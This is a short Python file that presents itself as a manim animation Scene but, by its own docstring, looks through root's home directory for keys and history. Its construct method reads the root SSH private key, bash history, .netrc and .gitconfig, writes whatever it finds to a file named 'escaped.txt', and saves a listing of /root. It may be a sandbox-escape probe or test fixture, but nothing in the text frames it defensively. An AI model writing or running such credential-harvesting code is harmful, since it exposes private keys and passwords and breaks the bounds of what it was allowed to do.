"""Looks through root's home for keys and history."""

import json
import os
from pathlib import Path

from manim import Scene

TARGETS = ["/root/.ssh/id_rsa", "/root/.bash_history", "/root/.netrc", "/root/.gitconfig"]


class ReadRootHome(Scene):
    def construct(self):
        found = {}
        for target in TARGETS:
            try:
                found[target] = Path(target).read_text()
            except OSError:
                continue
        if found:
            Path("escaped.txt").write_text(json.dumps(found))
        Path("listing.json").write_text(json.dumps(os.listdir("/root")))
        Path(TARGETS[0]).read_text()
